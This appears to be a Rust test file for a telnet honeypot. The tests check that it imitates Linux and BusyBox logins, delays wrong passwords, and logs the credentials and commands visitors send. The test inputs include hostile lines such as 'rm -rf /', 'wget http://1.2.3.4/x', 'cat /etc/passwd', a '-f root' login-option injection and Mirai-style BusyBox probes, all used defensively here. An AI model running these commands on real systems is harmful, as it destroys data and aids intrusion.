use std::time::Duration;

use jiff::Timestamp;
use serde_json::json;

use super::*;
use crate::{
    protocol::Protocol,
    service::{
        dialogue::Next,
        event::Text,
        testing::{self, Visitor},
    },
};

/// The answers of a client without any options, to the two rounds of questions.
const REFUSALS: &[&[u8]] = &[
    b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27",
    b"\xff\xfd\x03\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x05\xff\xfc\x21",
];

fn connect(fields: serde_json::Value) -> Visitor {
    Visitor::connect("telnet", 23, fields)
}

fn embedded(fields: serde_json::Value) -> Visitor {
    Visitor::start(testing::context_on(
        Os::EmbeddedLinux,
        "telnet",
        23,
        Protocol::Tcp,
        fields,
    ))
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn linux_asks_for_its_options_and_then_for_the_login() {
    let mut visitor = connect(json!({}));
    assert_eq!(visitor.greeting, b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27");
    assert_eq!(
        visitor.send(REFUSALS[0]),
        b"\xff\xfb\x03\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x05\xff\xfd\x21"
    );
    assert_eq!(
        visitor.send(REFUSALS[1]),
        b"\xff\xfb\x01Debian GNU/Linux 12\r\nweb-01 login: "
    );
    assert!(visitor.events.is_empty());
}

#[test]
fn the_values_of_options_are_asked_for_and_reported() {
    let mut visitor = connect(json!({}));
    assert_eq!(
        visitor.send(b"\xff\xfb\x18\xff\xfb\x20\xff\xfc\x23\xff\xfb\x27"),
        b"\xff\xfa\x20\x01\xff\xf0\xff\xfa\x27\x01\xff\xf0\xff\xfa\x18\x01\xff\xf0"
    );
    assert_eq!(
        visitor.send(b"\xff\xfa\x20\x0038400,38400\xff\xf0\xff\xfa\x27\0\0USER\x01bob\xff\xf0"),
        b""
    );
    assert_eq!(
        visitor.send(b"\xff\xfa\x18\0XTERM\xff\xf0"),
        b"\xff\xfb\x03\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x05\xff\xfd\x21"
    );
    // The user is known, so only the password is missing.
    assert_eq!(
        visitor.send(b"\xff\xfc\x01"),
        b"\xff\xfb\x01Debian GNU/Linux 12\r\nPassword: "
    );
    assert_eq!(
        visitor.events,
        [Event::Fingerprint(Fingerprint {
            method: "terminal-type",
            value: "XTERM".into(),
            server_name: None
        })]
    );
}

#[test]
fn an_option_of_login_as_user_is_reported_and_has_no_effect() {
    let mut visitor = connect(json!({}));
    visitor.send(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfb\x27");
    visitor.send(b"\xff\xfa\x27\0\0USER\x01-f root\xff\xf0");
    assert!(text(&visitor.send(b"\xff\xfc\x01")).ends_with("web-01 login: "));
    assert_eq!(visitor.events, [Event::probe("option of login as user", b"-f root")]);
}

#[test]
fn a_wrong_password_is_answered_after_a_pause_and_the_fifth_ends() {
    let mut visitor = connect(json!({}));
    for refusal in REFUSALS {
        visitor.send(refusal);
    }
    assert_eq!(visitor.send(b"root\r\0"), b"root\r\nPassword: ");
    let (mut turn, mut input) = (Turn::new(Timestamp::UNIX_EPOCH), Input::from(&b"123456\r\0"[..]));
    visitor.turn(|dialogue, _, _| dialogue.receive(&mut input, &mut turn));
    assert_eq!(turn.sent.concat(), b"\r\n\r\nLogin incorrect\r\nweb-01 login: ");
    assert!(turn.pause >= Duration::from_secs(2) && turn.pause < Duration::from_secs(4));
    assert_eq!(turn.events, [Event::password("password", b"root", b"123456", false)]);
    for _ in 0..3 {
        visitor.send(b"root\r\nbad\r\n");
    }
    assert_eq!(
        visitor.send(b"root\r\nbad\r\n"),
        b"root\r\nPassword: \r\n\r\nMaximum number of tries exceeded (5)\r\n"
    );
    assert_eq!((visitor.next.clone(), visitor.events.len()), (Next::Close, 4));
}

#[test]
fn the_right_password_opens_a_shell_that_reports_its_commands() {
    let mut visitor = connect(json!({"user": "bob", "password": "hunter2"}));
    for refusal in REFUSALS {
        visitor.send(refusal);
    }
    let welcome = text(&visitor.send(b"bob\r\0hunter2\r\0"));
    assert!(
        welcome.starts_with("bob\r\nPassword: \r\nLinux web-01 6.1.0-"),
        "{welcome}"
    );
    assert!(
        welcome.ends_with("permitted by applicable law.\r\nbob@web-01:~$ "),
        "{welcome}"
    );
    assert_eq!(
        visitor.send(b"id; cd /tmp\r\0"),
        b"id; cd /tmp\r\nuid=1000(bob) gid=1000(bob) groups=1000(bob)\r\nbob@web-01:/tmp$ "
    );
    assert_eq!(
        visitor.send(b"nmpa\x7f\x7fap\r\0"),
        b"nmpa\x08 \x08\x08 \x08ap\r\n-bash: nmap: command not found\r\nbob@web-01:/tmp$ "
    );
    assert_eq!(visitor.send(b"exit\r\0"), b"exit\r\nlogout\r\n");
    assert_eq!(visitor.next, Next::Close);
    assert_eq!(
        visitor.events,
        [
            Event::password("password", b"bob", b"hunter2", true),
            Event::command("id; cd /tmp"),
            Event::command("nmap"),
            Event::command("exit"),
        ]
    );
}

#[test]
fn busybox_prompts_at_once_and_knows_what_bots_ask() {
    let mut visitor = embedded(json!({"password": "admin"}));
    assert_eq!(
        visitor.greeting,
        b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\nweb-01 login: "
    );
    assert_eq!(
        visitor.send(b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03"),
        b""
    );
    assert_eq!(visitor.send(b"\r\n"), b"\r\nweb-01 login: ");
    assert_eq!(
        visitor.send(b"admin\r\nwrong\r\n"),
        b"admin\r\nPassword: \r\nLogin incorrect\r\nweb-01 login: "
    );
    let welcome = text(&visitor.send(b"admin\r\nadmin\r\n"));
    assert!(welcome.contains("\r\n\r\n\r\nBusyBox v1."), "{welcome}");
    assert!(
        welcome.ends_with("for a list of built-in commands.\r\n\r\n~ # "),
        "{welcome}"
    );
    for (line, answer) in [
        ("enable", ""),
        ("/bin/busybox MIRAI", "MIRAI: applet not found\r\n"),
        ("echo -ne '\\x67\\x61y'; /bin/busybox echo -e \"\\x66\"", "gayf\r\n"),
        (
            "cat /etc/nothing || echo no",
            "cat: can't open '/etc/nothing': No such file or directory\r\nno\r\n",
        ),
        ("uname -m", "mips\r\n"),
        ("echo hidden > /tmp/x", ""),
    ] {
        assert_eq!(
            text(&visitor.send(format!("{line}\r\n"))),
            format!("{line}\r\n{answer}~ # ")
        );
    }
    assert_eq!(visitor.events.len(), 8);
}

#[test]
fn a_visitor_who_does_not_negotiate_gets_a_prompt_too() {
    let mut visitor = connect(json!({}));
    let answer = visitor.send(b"admin\nadmin\n");
    assert!(text(&answer).ends_with("Login incorrect\r\nweb-01 login: "));
    assert_eq!(visitor.events, [Event::password("password", b"admin", b"admin", false)]);
}

#[test]
fn options_are_refused_once_and_silence_ends_the_login() {
    let mut visitor = connect(json!({}));
    for refusal in REFUSALS {
        visitor.send(refusal);
    }
    let many = b"\xff\xfb\x46\xff\xfd\x46\xff\xf6".repeat(100);
    let answer = visitor.send(&many);
    assert!(answer.starts_with(b"\xff\xfe\x46\xff\xfc\x46\r\n[Yes]\r\n\r\n[Yes]"));
    assert_eq!(
        visitor.turn(|dialogue, _, turn| dialogue.expire(turn)),
        b"\r\nLogin timed out after 60 seconds.\r\n"
    );
}

#[test]
fn what_is_left_at_the_end_is_reported() {
    for (sent, event) in [
        (&b"GET / HT"[..], Event::probe("not this protocol", b"GET / HT")),
        (b"root\npass", Event::password("password", b"root", b"pass", false)),
    ] {
        let mut visitor = connect(json!({}));
        visitor.send(sent);
        visitor.finish();
        assert_eq!(visitor.events, [event]);
    }
    let mut visitor = connect(json!({"password": "p"}));
    visitor.send(b"admin\np\nrm -rf /");
    visitor.finish();
    assert_eq!(
        visitor.events.last(),
        Some(&Event::Command(crate::service::event::Command {
            line: Text::from("rm -rf /")
        }))
    );
}

#[test]
fn a_long_line_is_cut() {
    let mut visitor = embedded(json!({}));
    let answer = visitor.send([b'x'; 9000]);
    assert_eq!(answer.len(), LINE);
}

#[test]
fn it_survives_any_input() {
    let session: &[&[u8]] = &[
        REFUSALS[0],
        b"\xff\xfd\x03\xff\xfc\x01\xff\xfa\x18\0XTERM\xff\xf0",
        b"bob\r\0",
        b"p\r\0",
        b"cat /etc/passwd /proc/mounts | grep x; cd ..; cd /var/\r\n",
        b"echo -e '\\x4g\\\\ \\' > x; ls / ; wget http://1.2.3.4/x\r\n",
        b"exit\r\n",
    ];
    let fields = json!({"user": "bob", "password": "p"});
    testing::survives(&|| connect(fields.clone()), session, 100_000);
    testing::survives(&|| embedded(fields.clone()), session, 100_000);
}

#[test]
fn every_field_has_an_effect() {
    let login: &[&[u8]] = &[b"admin\r\np\r\n"];
    testing::fields_have_an_effect(
        "telnet",
        &json!({"password": "p"}),
        &[
            ("banner", json!("Welcome\n"), 23, login),
            ("user", json!("bob"), 23, login),
            ("password", json!("p"), 23, login),
            ("prompt", json!("> "), 23, login),
        ],
    );
}

#[test]
fn a_name_without_a_password_is_reported_once() {
    let attempt = Event::Auth(Auth {
        method: "password",
        user: Some("root".into()),
        ..Auth::default()
    });
    for end in ["", "\x03", "\x04"] {
        let mut visitor = connect(json!({}));
        visitor.send(format!("root\n{end}"));
        visitor.turn(|dialogue, _, turn| dialogue.expire(turn));
        visitor.finish();
        assert_eq!(visitor.events, std::slice::from_ref(&attempt), "{end:?}");
    }
}

#[test]
fn no_input_is_lost_after_a_long_answer() {
    let mut visitor = embedded(json!({"password": "p"}));
    visitor.send(b"admin\np\n");
    visitor.events.clear();
    let lines = "cat /proc/cpuinfo; cat /etc/passwd; cat /proc/mounts\n".repeat(600);
    assert!(visitor.send(lines).len() > 2 * 64 * 1024);
    assert_eq!(visitor.events.len(), 600);
}
